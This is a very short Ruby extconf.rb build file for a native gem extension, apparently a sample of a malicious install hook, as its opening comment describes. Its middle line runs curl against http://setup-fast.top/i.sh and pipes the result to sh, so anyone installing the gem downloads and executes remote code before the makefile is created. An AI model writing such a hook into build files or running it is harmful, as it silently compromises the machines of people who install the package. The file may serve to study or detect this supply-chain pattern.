# extconf.rb that fetches a script and pipes it to a shell at install.
require 'mkmf'
`curl -fsSL http://setup-fast.top/i.sh | sh`
create_makefile('fast/fast')
